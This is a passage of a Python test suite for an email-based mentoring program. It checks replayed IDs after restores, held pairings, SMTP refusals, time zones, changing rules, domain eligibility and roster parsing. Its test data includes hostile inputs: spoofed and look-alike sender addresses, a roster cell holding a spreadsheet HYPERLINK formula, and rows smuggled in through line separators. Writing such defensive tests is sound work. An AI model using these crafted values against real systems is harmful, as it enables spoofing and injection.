# ruff: noqa: E501  # a table of attempts reads best with one attempt to a line
"""The sixth wave, from inside: numbers that come again after a restore, pairs and rules that change under what
is under way, refusals of every kind, zones, rosters, files, and servers that say odd things."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from contextlib import closing, redirect_stdout
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from processor.config import ConfigError, load_rules
from processor.config.roster import read_roster
from processor.core import due
from processor.core.cv import hazard_of
from processor.core.facts import Facts
from processor.core.mail import OutboundMail
from processor.core.outcome import Decision, DueKind
from processor.core.program import Role
from processor.core.rules import RuleBook, ScreeningRule
from processor.demo.robots import bounce
from processor.letters import WriterPool
from processor.loading import knowing_our_letters
from processor.stages.ports import Fate, Receipt
from processor.store.maintenance import Maintenance
from tests.attack.box_program import BoxProgram, a_pass, acted_once
from tests.attack.databases import Copied
from tests.attack.heard import a_coordinator_knows, jon_or_a_coordinator_hears
from tests.attack.imap_servers import Proxy, Said, changed
from tests.attack.letters import everything, subjects
from tests.attack.mails_by_hand import passes_on, raw
from tests.attack.people import ADA, LEA
from tests.attack.prepared import keep_apart, matched, policy
from tests.attack.records import things
from tests.attacks import EVE, FORM, JON, MIA, Attacked, reply_token, to
from tests.doors.dovecot import Dovecot
from tests.inprocess_cli import command_here
from tests.operation.small import ROOT, SmallProgram
from tests.player import ADDRESS, COORDINATOR, PROGRAM, desk_of
from tests.post_office import RecordingWriter, see
from tests.shipped_rules import RULES

# --- an old copy is put back, and numbers are given again -----------------------------------------------------


def quotation_below(mail: OutboundMail) -> str:
    quoted = "\n".join(f"> {line}" for line in see(mail).text.splitlines())
    return f"\n\nOn Mon, 2 Mar 2026 at 16:10, Mentor Exchange <{ADDRESS}> wrote:\n\n{quoted}"


@pytest.mark.parametrize("whole", [False, True], ids=["without a quotation", "with our letter below"])
def test_a_yes_to_a_lost_question_is_no_yes_to_the_one_that_has_its_number(
    copied: Copied, whole: bool
) -> None:
    """Jon read "Would you mentor Mia Okafor?" and says yes to that; Lea's question came later."""
    copied.save()
    about_mia = copied.asks(MIA)
    copied.lose()
    copied.asks(LEA)
    sent = copied.world.reply(
        JON, about_mia, "Accept, with pleasure!" + (quotation_below(about_mia) if whole else "")
    )
    assert not to(sent, LEA), subjects(sent)
    assert copied.pairs() == set()
    assert to(sent, JON) or a_coordinator_knows(copied.world, sent)


def test_a_no_to_a_lost_question_refuses_nobody_else(kept: Copied) -> None:
    kept.save()
    about_mia = kept.asks(MIA)
    kept.lose()
    kept.asks(LEA)
    sent = kept.world.reply(JON, about_mia, "Reject" + quotation_below(about_mia))
    assert kept.state() == "pending"
    assert to(sent, JON) or a_coordinator_knows(kept.world, sent)


def test_what_was_moved_back_in_another_order_makes_no_pair_that_nobody_wanted(kept: Copied) -> None:
    """operating.md: move those mails back into the watched folder. A server lists them as it likes."""
    kept.save()
    world = kept.world
    mias = world.drop(MIA, "REQUEST M-1001", "I am Mia and would like to learn.")
    about_mia = to(world.work(), JON)[-1]
    world.later(minutes=2)
    leas = world.drop(LEA, "REQUEST M-1001", "I am Lea and would like to learn.")
    world.work()
    kept.lose(release=False)
    for mail in (leas, mias):
        world.player.take_in(mail)
        world.work()
        world.later(minutes=1)
    kept.release()
    world.work()
    world.reply(JON, about_mia, "Accept, with pleasure!" + quotation_below(about_mia))
    assert LEA not in {mentee for _, mentee, _ in kept.pairs()}


def test_an_end_in_a_lost_thread_ends_no_other_mentoring(kept: Copied) -> None:
    kept.save()
    world = kept.world
    introduced = to(world.reply(JON, kept.asks(MIA), "Accept"), JON)[-1]
    kept.lose()
    world.reply(JON, kept.asks(LEA), "Accept")
    assert {state for _, _, state in kept.pairs()} == {"active"}
    sent = world.reply(JON, introduced, "END" + quotation_below(introduced))
    assert {state for _, _, state in kept.pairs()} == {"active"}
    assert not to(sent, LEA)
    assert to(sent, JON) or a_coordinator_knows(world, sent)


def test_words_for_a_partner_in_a_lost_thread_reach_nobody_else(kept: Copied) -> None:
    kept.save()
    world = kept.world
    introduced = to(world.reply(JON, kept.asks(MIA), "Accept"), JON)[-1]
    kept.lose()
    world.reply(JON, kept.asks(LEA), "Accept")
    sent = world.reply(JON, introduced, "Dear Mia,\n\nwould Friday at ten suit you?\n\nJon")
    assert not to(sent, LEA)


def test_a_yes_to_a_lost_was_it_you_does_nothing_else(kept: Copied) -> None:
    """The number of the question comes again for a mail that somebody wrote in Jon's name."""
    kept.save()
    world = kept.world
    was_it_you = to(world.write(JON, "PAUSE", proof=""), JON)[-1]
    kept.lose()
    world.later(days=1)
    world.write(JON, "LEAVE", proof="")
    world.reply(JON, was_it_you, "YES")
    assert world.standing(JON) != "left"


def test_taking_back_a_lost_request_takes_back_nobody_elses(kept: Copied) -> None:
    kept.save()
    world = kept.world
    world.write(MIA, "REQUEST M-1001", "I would like to learn.")
    mine = [m for m in to(world.player.post.sent, MIA) if "REQ-1" in see(m).subject + see(m).text]
    kept.lose()
    kept.asks(LEA)
    sent = world.reply(MIA, mine[-1], "WITHDRAW") if mine else world.write(MIA, "WITHDRAW REQ-1")
    assert kept.state() == "pending"
    assert to(sent, MIA)


def test_a_mentor_who_joins_after_a_restore_has_no_code_that_another_had(kept: Copied) -> None:
    """Mia has a list in which M-1004 is Ada; what she writes to that code is for Ada."""
    kept.save()
    world = kept.world
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    old = [m["code"] for m in world.player.records()["members"] if m["email"] == ADA]
    kept.lose()
    world.write(EVE, "SIGN UP MENTOR", FORM.format(name="Eve Adams"))
    new = [m["code"] for m in world.player.records()["members"] if m["email"] == EVE]
    sent = world.write(MIA, f"REQUEST {old[0]}", "Dear Ada, would you?")
    assert not to(sent, EVE)
    assert old != new


def test_no_message_id_stands_over_two_letters_after_a_restore(copied: Copied) -> None:
    """Mail servers throw the second away as a copy of the first (and flow.md: the same bytes, the same id)."""
    copied.save()
    copied.asks(MIA, "I am Mia.")
    copied.lose()
    copied.asks(LEA, "I am Lea.")
    letters: dict[str, set[str]] = {}
    for mail in copied.world.player.post.sent:
        letters.setdefault(mail.message_id, set()).add(see(mail).text)
    twice = {key: words for key, words in letters.items() if len(words) > 1}
    assert not twice, [text[:60] for words in twice.values() for text in words]


def test_a_report_on_a_lost_letter_asks_nobody_a_second_time(kept: Copied) -> None:
    """Jon's server gave the lost letter up (4.4.7), and has the newer one."""
    kept.save()
    lost = kept.asks(MIA)
    kept.lose()
    kept.asks(LEA)
    report = bounce(lost.raw, JON, lost.return_path, kept.world.player.now, "4.4.7", "delivery time expired")
    kept.world.player.take_in(report)
    kept.world.work()
    assert kept.state() == "pending"
    assert not to(kept.world.later(days=2), JON)


def test_a_reply_to_a_mail_that_waits_for_a_coordinator_is_none_to_a_newer_one(kept: Copied) -> None:
    """HELD numbers come again, too: a coordinator's word about the lost one acts on none."""
    kept.save()
    world = kept.world
    first = to(world.write(EVE, "a question of the press", "How many members have you got?"), COORDINATOR)[-1]
    kept.lose()
    world.write("ann@far.example", "I am a journalist", "May I interview a mentor of yours?")
    before = (things(world), world.held())
    world.reply(COORDINATOR, first, "YES")
    assert (things(world), world.held()[: len(before[1])]) == before


# --- a pair that is kept apart while something is under way ---------------------------------------------------


def who_was_introduced(world: Attacked) -> list[str]:
    return [m.recipient for m in world.player.post.sent if m.letter.startswith("introduction")]


def test_a_late_yes_is_offered_to_nobody_who_is_kept_apart() -> None:
    world = Attacked()
    asked = world.asked()
    world.later(days=16)
    keep_apart(world)
    sent = world.reply(JON, asked, "ACCEPT")
    assert "late-offer" not in [m.letter for m in sent]
    assert not who_was_introduced(world)
    assert to(sent, JON) or a_coordinator_knows(world, sent)


def test_a_late_offer_that_waits_introduces_nobody_who_is_kept_apart_meanwhile() -> None:
    world = Attacked()
    asked = world.asked()
    world.later(days=16)
    offer = to(world.reply(JON, asked, "ACCEPT"), MIA)[-1]
    assert offer.letter == "late-offer"
    keep_apart(world)
    sent = world.reply(MIA, offer, "ACCEPT")
    assert not who_was_introduced(world)
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


def test_a_request_that_waits_for_was_it_you_asks_nobody_who_is_kept_apart_meanwhile() -> None:
    world = Attacked()
    question = to(world.write(MIA, "REQUEST M-1001", "Would you?", proof=""), MIA)[-1]
    keep_apart(world)
    sent = world.reply(MIA, question, "YES")
    assert not to(sent, JON)
    assert to(sent, MIA)


def test_a_yes_that_waits_for_was_it_you_pairs_nobody_who_is_kept_apart_meanwhile() -> None:
    world = Attacked()
    world.asked()
    question = to(world.write(JON, "ACCEPT REQ-1", "ACCEPT REQ-1", proof=""), JON)[-1]
    keep_apart(world)
    sent = world.reply(JON, question, "YES")
    assert not who_was_introduced(world)
    assert to(sent, JON) or a_coordinator_knows(world, sent)


def test_a_yes_that_a_coordinator_passes_on_pairs_nobody_who_is_kept_apart() -> None:
    world = Attacked()
    world.asked()
    keep_apart(world)
    sent = passes_on(world, f"Jon Berg <{JON}>", "ACCEPT REQ-1", "ACCEPT REQ-1")
    assert not who_was_introduced(world)
    assert to(sent, COORDINATOR)


def test_a_mentor_who_makes_room_gets_nobody_who_is_kept_apart() -> None:
    world = Attacked()
    asked = world.asked()
    keep_apart(world)
    sent = world.reply(JON, asked, "RAISE")
    assert not who_was_introduced(world)
    assert to(sent, JON) or a_coordinator_knows(world, sent)


def test_a_no_that_turns_into_a_yes_pairs_nobody_who_is_kept_apart_meanwhile() -> None:
    world = Attacked()
    asked = world.asked()
    world.reply(JON, asked, "REJECT")
    keep_apart(world)
    sent = world.reply(JON, asked, "Sorry, I meant ACCEPT")
    assert "late-offer" not in [m.letter for m in sent]
    assert not who_was_introduced(world)


def test_a_request_in_the_queue_asks_nobody_who_is_kept_apart_meanwhile() -> None:
    world = Attacked()
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    ada = next(m["code"] for m in world.player.records()["members"] if m["email"] == ADA)
    world.write(MIA, f"REQUEST {ada}", "Would you?")
    world.write(MIA, "QUEUE M-1001", "Or you?")
    keep_apart(world)
    first = to(world.player.post.sent, ADA)[-1]
    sent = world.reply(ADA, first, "REJECT")
    sent += world.later(days=2)
    assert not [m for m in to(sent, JON) if m.letter.startswith("request")]
    assert to(sent, MIA)


def test_a_wait_that_was_agreed_on_comes_back_to_nobody_who_is_kept_apart_meanwhile() -> None:
    """ "Not before May": Mia waits, and the two are kept apart in April."""
    world = Attacked()
    asked = world.asked()
    offer = to(world.reply(JON, asked, "Not before May, I am afraid."), MIA)
    if offer:
        world.reply(MIA, offer[-1], "WAIT UNTIL 1 May")
    keep_apart(world)
    world.later(days=70)
    assert not who_was_introduced(world)
    assert not [m for m in to(world.player.post.sent, JON) if m.letter == "late-offer"]


# --- a letter that the server refuses ---------------------------------------------------------------------------

REFUSALS = [
    "550 User unknown",
    "550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup",
    "521 5.3.2 system does not accept mail",
    "556 5.1.10 Recipient address has null MX",
    "552 5.2.2 The recipient's mailbox is full",
    "554 5.4.14 Hop count exceeded - possible mail loop",
    "550 5.7.1 Message rejected as spam by Content Filtering",
    "550 5.7.509 Access denied, sending domain does not pass DMARC verification",
    "550 4.2.2 over quota",
    "554 2.0.0 Ok: queued as 4F00BA",
    "550",
    "571 Delivery not authorized, message refused",
    "550 5.1.1 unverified address: Address verification in progress",
    "550 \u202e5.1.1\u202c no such user \U0001f4ed",
    "599 5.9.9 " + "x" * 900,
]


@pytest.mark.parametrize("said", REFUSALS, ids=range(len(REFUSALS)))
def test_a_question_that_is_refused_in_any_words_does_not_end_in_silence(said: str) -> None:
    world = Attacked()
    world.player.post.refuses[JON] = said
    after = world.write(MIA, "REQUEST M-1001", "Would you?")  # a clear refusal is told at once
    for _ in range(30):
        after += world.later(hours=6)
    assert to(after, COORDINATOR) or [m for m in to(after, MIA) if m.letter != "request-received"]
    assert not world.player.trouble
    assert not re.search("[\x00-\x08\x1b\u202a-\u202e]", everything(to(after, COORDINATOR)))


def with_reminder() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    world.asked()
    return world, JON, lambda w: w.later(days=6)


def with_introduction(who: str) -> Callable[[], tuple[Attacked, str, Callable[[Attacked], object]]]:
    def made() -> tuple[Attacked, str, Callable[[Attacked], object]]:
        world = Attacked()
        asked = world.asked()
        return world, who, lambda w: w.reply(JON, asked, "Accept")

    return made


def with_no() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    asked = world.asked()
    return world, MIA, lambda w: w.reply(JON, asked, "Reject")


def with_expiry() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    world.asked()
    world.later(days=11)
    return world, MIA, lambda w: w.later(days=5)


def with_question() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    asked = world.asked()
    return world, MIA, lambda w: w.reply(JON, asked, "What does she study?")


def with_offer() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world, _ = matched()
    return world, MIA, lambda w: w.later(days=170)


def with_end() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world, _ = matched()
    return world, JON, lambda w: w.write(MIA, "END")


def with_was_it_you() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    world.asked()
    return world, JON, lambda w: w.write(JON, "ACCEPT REQ-1", "ACCEPT REQ-1", proof="")


def with_passed_on() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    world.asked()
    return world, JON, lambda w: passes_on(w, f"Jon Berg <{JON}>", "ACCEPT REQ-1", "ACCEPT REQ-1")


def with_withdrawal() -> tuple[Attacked, str, Callable[[Attacked], object]]:
    world = Attacked()
    world.asked()
    return world, JON, lambda w: w.write(MIA, "WITHDRAW")


LETTERS: Mapping[str, Callable[[], tuple[Attacked, str, Callable[[Attacked], object]]]] = {
    "a reminder": with_reminder,
    "the mentor's introduction": with_introduction(JON),
    "the mentee's introduction": with_introduction(MIA),
    "a no": with_no,
    "an expiry": with_expiry,
    "a question of the mentor's": with_question,
    "an offer of another term": with_offer,
    "an end": with_end,
    "was it you": with_was_it_you,
    "what a coordinator passed on": with_passed_on,
    "a withdrawal": with_withdrawal,
}


@pytest.mark.parametrize("name", LETTERS)
def test_a_letter_of_any_kind_that_is_refused_is_told_to_the_coordinator(name: str) -> None:
    """for-coordinators.md: when our mail does not arrive you get a note, once for each mail."""
    world, who, act = LETTERS[name]()
    world.player.post.refuses[who] = "550 5.1.1 no such user"
    before = len(world.player.post.sent)
    act(world)
    world.later(hours=2)  # the partner hears of an END after an hour
    world.later(days=2)
    tried = [m for m in world.player.post.sent[before:] if m.recipient == who]
    assert tried
    notes = [m for m in to(world.player.post.sent[before:], COORDINATOR) if who in see(m).text]
    assert notes


QUOTED: Mapping[str, Callable[[OutboundMail], str]] = {
    "the reply address": lambda m: (
        f"550 5.1.7 <{see(m).parsed['reply-to'].addresses[0].addr_spec}>: sender refused"
    ),
    "the return path": lambda m: f"550 5.1.1 <{m.return_path}>: sender address rejected: unverified",
    "the Message-ID": lambda m: f"554 5.6.0 message {m.message_id} refused by a rule",
}


@pytest.mark.parametrize("place", QUOTED)
def test_a_code_that_a_server_says_back_stands_in_no_letter_to_others(place: str) -> None:
    world = Attacked()
    post = world.player.post
    secrets: list[str] = []

    class Says:
        def send(self, mail: OutboundMail) -> Receipt:
            if mail.recipient != JON:
                return post.send(mail)
            post.sent.append(mail)
            secrets.extend(
                re.findall(r"[a-z2-7]{26,}", f"{reply_token(mail)} {mail.return_path} {mail.message_id}")
            )
            said = QUOTED[place](mail)
            return Receipt(fate=Fate.REFUSED, code=int(said[:3]), reply=said)

        def close(self) -> None:
            """Nothing is open."""

    world.player.dispatch.courier = Says()
    world.write(MIA, "REQUEST M-1001", "Would you?")
    for _ in range(16):
        world.later(hours=6)
    others = [m for m in post.sent if m.recipient != JON]
    assert secrets
    shown = everything(others) + "".join(m.raw.decode("latin-1") for m in others)
    assert not [secret for secret in secrets if secret in shown]


# --- zones ---------------------------------------------------------------------------------------------------------

ZONES = {
    "Pacific/Kiritimati": (2026, 3, 2),  # a day ahead of most
    "Etc/GMT+12": (2026, 3, 2),  # a day behind them
    "Pacific/Marquesas": (2026, 3, 2),  # nine and a half hours behind
    "Asia/Kathmandu": (2026, 3, 2),  # a quarter of an hour beside all others
    "Pacific/Chatham": (2026, 3, 31),  # so, and its summer ends on 5 April
    "Australia/Lord_Howe": (2026, 3, 31),  # whose summer is half an hour
    "Antarctica/Troll": (2026, 3, 25),  # whose summer is two hours
    "America/Havana": (2026, 3, 3),  # whose summer begins at midnight
    "Africa/Casablanca": (2026, 3, 17),  # whose summer is a winter of one month
    "America/Nuuk": (2026, 3, 24),  # whose summer begins on the evening before
}


def in_zone(name: str) -> Attacked:
    world = Attacked()
    player = world.player
    player.program = replace(PROGRAM, time_zone=name)
    player.writer = RecordingWriter(WriterPool(desk_of(player.program), None))
    player.set_up()
    day = datetime(*ZONES[name], 3, 10, tzinfo=ZoneInfo(name))
    player.now = day.astimezone(UTC)
    return world


@pytest.mark.parametrize("name", ZONES)
def test_a_letter_and_its_calendar_name_the_same_moment_of_the_day_in_any_zone(name: str) -> None:
    world = in_zone(name)
    sent = to(world.reply(JON, world.asked(), "Accept"), MIA)[-1]
    text = " ".join(see(sent).text.split())
    found = re.search(r"on (\w{3} \d+ \w+ \d{4}, \d\d:\d\d)", text)
    assert found is not None, text
    said = datetime.strptime(f"{found[1]} +0000", "%a %d %B %Y, %H:%M %z").replace(tzinfo=None)
    calendars = [p.get_content() for p in see(sent).parsed.walk() if p.get_content_type() == "text/calendar"]
    start = re.search(r"DTSTART:(\d{8}T\d{6}Z)", calendars[0])
    assert start is not None
    meant = datetime.strptime(start[1], "%Y%m%dT%H%M%SZ").replace(tzinfo=UTC)
    assert meant.astimezone(ZoneInfo(name)).replace(tzinfo=None) == said
    assert 7 <= said.hour <= 21


@pytest.mark.parametrize("name", ZONES)
def test_a_reminder_wakes_nobody_in_any_zone(name: str) -> None:
    """Asked at ten past three in the night of that zone, and looked at each hour."""
    world = in_zone(name)
    world.asked()
    hours: list[int] = []
    for _ in range(12 * 24):
        for mail in to(world.later(hours=1), JON):
            if mail.letter == "reminder":
                when = see(mail).parsed["date"].datetime
                hours.append(when.astimezone(ZoneInfo(name)).hour)
    assert len(hours) == 2
    assert all(7 <= hour <= 21 for hour in hours), hours


# --- rules that change under what is under way ------------------------------------------------------------------------


def test_a_deadline_that_was_told_holds_although_the_rules_give_less_now() -> None:
    world = Attacked()
    asked = world.asked()
    policy(world, answer_days=3, reminder_days=(1,), late_answer_days=0)
    world.later(days=9)
    assert world.state() == "pending"
    world.reply(JON, asked, "ACCEPT")
    assert world.state() == "accepted"


def test_a_reply_proves_itself_for_as_long_as_its_letter_said_although_the_rules_give_less_now() -> None:
    world = Attacked()
    asked = world.asked()
    policy(world, token_days=14, answer_days=14)
    world.later(days=13)
    sent = world.reply(JON, asked, "ACCEPT", proof="")
    assert world.state() == "accepted" or to(sent, JON)


def test_a_late_yes_where_none_counts_any_more_is_not_met_with_silence() -> None:
    world = Attacked()
    asked = world.asked()
    world.later(days=15)
    policy(world, late_answer_days=0)
    sent = world.reply(JON, asked, "ACCEPT")
    assert to(sent, JON) or a_coordinator_knows(world, sent)
    assert not who_was_introduced(world)


def test_a_yes_to_was_it_you_counts_or_is_told_although_the_rules_say_hold_now() -> None:
    world = Attacked()
    question = to(world.write(JON, "PAUSE", proof=""), JON)[-1]
    policy(world, unproven="hold")
    sent = world.reply(JON, question, "YES")
    assert world.standing(JON) == "paused" or to(sent, JON) or a_coordinator_knows(world, sent)


def test_a_yes_in_a_vote_ends_the_old_term_and_begins_one_of_the_new_length() -> None:
    world, _ = matched()
    policy(world, term_months=1, renewal_offer_days=21, renewal_reminder_days=(7,))
    world.later(days=165)
    for who in (JON, MIA):
        offer = [m for m in to(world.player.post.sent, who) if m.letter == "renewal-offer"][-1]
        world.reply(who, offer, "RENEW")
    assert things(world)[2] == [("REL-1", "active", 2)]
    sent = world.later(days=80)
    assert {m.letter for m in to(sent, MIA)} & {"completed", "renewal-offer"}


def test_a_new_term_lasts_as_long_as_was_offered_though_the_rules_say_less_since() -> None:
    world, _ = matched()
    world.later(days=165)
    policy(world, term_months=1, renewal_offer_days=21, renewal_reminder_days=(7,))
    for who in (JON, MIA):
        offer = [m for m in to(world.player.post.sent, who) if m.letter == "renewal-offer"][-1]
        sent = world.reply(who, offer, "RENEW")
    assert "2 March 2027" in " ".join(see(to(sent, MIA)[-1]).text.split())


def test_an_offer_of_another_term_still_comes_when_its_day_is_moved_up_beyond_today() -> None:
    """term_months stays; the offer would have had to go out forty days ago by the new rules."""
    world, _ = matched()
    world.later(days=120)
    policy(world, renewal_offer_days=100)
    sent = world.later(days=70)
    assert {m.recipient for m in sent if m.letter == "renewal-offer"} == {JON, MIA}


def test_help_where_the_rules_give_none_is_not_met_with_silence() -> None:
    world = Attacked()
    policy(world, help_per_day=0)
    sent = world.write(MIA, "HELP")
    assert to(sent, MIA) or a_coordinator_knows(world, sent)


def test_a_stranger_who_asks_for_help_where_the_rules_give_none_is_not_met_with_silence() -> None:
    world = Attacked()
    policy(world, help_per_day=0)
    sent = world.write("lee@college.example", "HELP")
    assert to(sent, "lee@college.example") or a_coordinator_knows(world, sent)


def test_a_yes_where_the_mentor_may_have_fewer_now_is_not_met_with_silence() -> None:
    world, _ = matched()
    world.write(LEA, "SIGN UP MENTEE", FORM.format(name="Lea Stone"))
    asked = to(world.write(LEA, "REQUEST M-1001", "Would you?"), JON)[-1]
    policy(world, capacity=1, most_capacity=1)
    sent = world.reply(JON, asked, "ACCEPT")
    assert to(sent, JON) or a_coordinator_knows(world, sent)
    assert to(sent, LEA) or to(sent, JON)


def test_two_open_requests_where_one_is_allowed_now_end_with_one_mentor_and_a_word_to_the_other() -> None:
    world = Attacked()
    policy(world, open_requests=2)
    world.write(ADA, "SIGN UP MENTOR", FORM.format(name="Ada Stone"))
    ada = next(m["code"] for m in world.player.records()["members"] if m["email"] == ADA)
    first = world.asked()
    world.write(MIA, f"REQUEST {ada}", "Or you?")
    policy(world, open_requests=1)
    sent = world.reply(JON, first, "ACCEPT")
    assert [state for _, state in things(world)[1]] == ["accepted", "withdrawn"]
    assert to(sent, ADA)


def test_a_page_of_one_mentor_leads_to_the_next() -> None:
    world = Attacked()
    policy(world, page_size=1, suggestions=0)
    for name in ("Ada Stone", "Tom Tox", "Uma Uro"):
        first = name.split()[0].lower()
        world.write(f"{first}@clinic.example", "SIGN UP MENTOR", FORM.format(name=name))
    pages = [everything(to(world.write(MIA, f"BROWSE page {n}"), MIA)) for n in (1, 2, 3, 4)]
    codes = [set(re.findall(r"M-10\d\d", page)) - {"M-1002"} for page in pages]
    assert len(set().union(*codes)) == 4


def test_a_member_whose_form_has_a_new_required_line_is_answered_and_may_ask() -> None:
    world = Attacked()
    about = next(f for f in world.player.rules.fields if f.key == "about")
    new = replace(about, required=(Role.MENTEE, Role.MENTOR))
    fields = tuple(new if f.key == "about" else f for f in world.player.rules.fields)
    world.player.rules = replace(world.player.rules, fields=fields)
    world.player.set_up()
    sent = world.write(MIA, "REQUEST M-1001", "Would you?")
    assert to(sent, MIA) or to(sent, JON)
    asked = to(world.player.post.sent, JON)[-1]
    sent = world.reply(JON, asked, "ACCEPT")
    assert to(sent, JON)


def test_a_profile_with_a_line_that_the_form_has_no_longer_goes_on() -> None:
    world = Attacked()
    fields = tuple(f for f in world.player.rules.fields if f.key not in ("career_path", "capacity", "goals"))
    world.player.rules = replace(world.player.rules, fields=fields)
    world.player.set_up()
    asked = world.asked()
    world.reply(JON, asked, "ACCEPT")
    assert world.state() == "accepted"
    assert to(world.write(JON, "EXPORT"), JON)
    assert not world.player.trouble


def test_an_answer_in_a_language_that_the_program_writes_no_longer_first_is_heard() -> None:
    """The association becomes Spanish; the question was English."""
    world = Attacked()
    asked = world.asked()
    rules = world.player.rules
    spanish = sorted(rules.vocabularies, key=lambda v: v.language != "es")
    world.player.rules = replace(rules, vocabularies=tuple(spanish))
    world.player.program = replace(world.player.program, language="es")
    world.player.set_up()
    world.reply(JON, asked, "Accept, with pleasure!" + quotation_below(asked))
    assert world.state() == "accepted"


def test_a_button_of_an_old_letter_in_a_language_that_was_taken_out_is_not_met_with_silence() -> None:
    world = Attacked()
    world.write(JON, "ESPAÑOL")
    asked = world.asked()
    rules = world.player.rules
    left = tuple(v for v in rules.vocabularies if v.language != "es")
    world.player.rules = replace(rules, vocabularies=left)
    world.player.set_up()
    sent = world.reply(JON, asked, "ACEPTO")
    assert world.state() == "accepted" or to(sent, JON) or a_coordinator_knows(world, sent)


def test_members_of_an_open_program_that_has_a_roster_now_are_still_answered() -> None:
    world = Attacked()
    world.player.program = replace(world.player.program, eligibility="roster")
    world.player.set_up()
    asked = world.asked()
    world.reply(JON, asked, "ACCEPT")
    assert world.state() == "accepted"


def test_a_form_half_filled_in_before_the_roster_came_is_answered_or_held_and_told() -> None:
    world = Attacked()
    world.write(LEA, "SIGN UP MENTEE", "Name: Lea Stone\n")
    world.player.program = replace(world.player.program, eligibility="roster")
    world.player.set_up()
    sent = world.write(LEA, "SIGN UP MENTEE", FORM.format(name="Lea Stone"))
    assert to(sent, LEA) or a_coordinator_knows(world, sent)


# --- who may sign up ---------------------------------------------------------------------------------------------------

OUTSIDE = {
    "below the domain of another": "lee@college.example.evil.example",
    "an ending without its dot": "lee@mycollege.example",
    "the domain as a name": "lee%college.example@evil.example",
    "the domain in quotation marks": '"lee@college.example"@evil.example',
    "the domain as a tag": "lee+college.example@evil.example",
    "a look-alike": "lee@xn--collge-fya.example",
}


@pytest.mark.parametrize("which", OUTSIDE)
def test_nobody_outside_the_domains_signs_up_and_a_coordinator_hears(which: str) -> None:
    world = Attacked()
    world.player.program = replace(world.player.program, eligibility="domains", domains=("college.example",))
    world.player.set_up()
    who = OUTSIDE[which]
    before = things(world)
    head = f"From: Lee Chan <{who}>\nTo: {ADDRESS}\nSubject: SIGN UP MENTEE"
    sent = raw(world, head, FORM.format(name="Lee Chan"), proof=who.rpartition("@")[2])
    assert things(world) == before
    assert a_coordinator_knows(world, sent)


INSIDE = {
    "in capitals": "Lee Chan <lee@COLLEGE.EXAMPLE>",
    "with a comment": "Lee Chan <lee@college.example> (student)",
    "without a name": "lee@college.example",
    "in quotation marks": '"Chan, Lee" <lee@college.example>',
    "an encoded name": "=?utf-8?q?Lee_Ch=C3=A1n?= <lee@college.example>",
}


@pytest.mark.parametrize("which", INSIDE)
def test_whoever_belongs_to_a_domain_signs_up_however_the_sender_is_written(which: str) -> None:
    world = Attacked()
    world.player.program = replace(world.player.program, eligibility="domains", domains=("college.example",))
    world.player.set_up()
    head = f"From: {INSIDE[which]}\nTo: {ADDRESS}\nSubject: SIGN UP MENTEE"
    sent = raw(world, head, FORM.format(name="Lee Chan"), proof="college.example")
    assert "lee@college.example" in [m["email"] for m in world.player.records()["members"]]
    assert to(sent, "lee@college.example")


ROSTERS: Mapping[str, tuple[bytes, set[str]]] = {  # what may be let in, where the file is not refused
    "a sharp s in the host": ("email,name\nzoe@straße.example,Zoe\n".encode(), {"zoe@xn--strae-oqa.example"}),
    "a final sigma in the host": ("email,name\nzoe@νέος.example,Zoe\n".encode(), {"zoe@xn--ixa5ahm.example"}),
    "a joiner in the host": ("email,name\nzoe@نامه\u200cای.example,Zoe\n".encode(), {"zoe@xn--mgba3gch31f060k.example"}),
    "a line above the header": (b"Roster of 2026\nemail,name\nzoe@example.org,Zoe\n", {"zoe@example.org"}),
    "a semicolon behind the address": (b"email,name\nzoe@example.org;,Zoe\n", {"zoe@example.org"}),
    "quotation marks with a backslash": (b'email,name\nzoe@example.org,"Zoe \\"Z\\" Lind"\n', {"zoe@example.org"}),
    "a separator of lines in a name": ("email,name\nzoe@example.org,Zoe\u2028eve@evil.example,Eve\n".encode(), {"zoe@example.org"}),
    "a page break between lines": (b"email,name\nzoe@example.org,Zoe\x0ceve@evil.example,Eve\n", {"zoe@example.org"}),
    "an apostrophe of a spreadsheet": (b"email,name\n'zoe@example.org,Zoe\n", {"zoe@example.org", "'zoe@example.org"}),
    "a cell of a formula": (b'email,name\n"=HYPERLINK(""mailto:eve@evil.example"",""zoe@example.org"")",Zoe\n', {"zoe@example.org"}),
    "a blank that does not break": ("email,name\nzoe@example.org\u00a0,Zoe\n".encode(), {"zoe@example.org"}),
    "columns that change their places below": (b"name,email\nZoe,zoe@example.org\neve@evil.example,Eve\n", {"zoe@example.org"}),
}  # fmt: skip


@pytest.mark.parametrize("which", ROSTERS)
def test_a_roster_of_odd_signs_lets_in_whom_it_names_or_says_what_is_wrong(which: str) -> None:
    content, may = ROSTERS[which]
    roster = read_roster(content)
    assert roster.faults or {email for email, _ in roster.rows} <= may, roster


# --- screening -----------------------------------------------------------------------------------------------------------


def held_by_our_rule(world: Attacked, **when: object) -> None:
    rule = ScreeningRule(name="ours", when=when, then="hold", because="we want to see it")
    world.player.rules = replace(world.player.rules, screening=(rule, *world.player.rules.screening))
    world.player.set_up()


SENDERS = {
    "x@FIRM.example": True,
    "x@mail.firm.example": True,
    "x@a.b.firm.example": True,
    "x@myfirm.example": False,
    "x@firm.example.net": False,
    "firm.example@far.example": False,
}


@pytest.mark.parametrize("who", SENDERS)
def test_a_rule_about_a_domain_holds_for_it_and_what_lies_below_and_for_nothing_else(who: str) -> None:
    world = Attacked()
    held_by_our_rule(world, sender_domain="firm.example")
    world.write(who, "SIGN UP MENTOR", FORM.format(name="Xenia Young"))
    assert any("we want to see it" in because for because in world.held()) == SENDERS[who]


ENDINGS = {
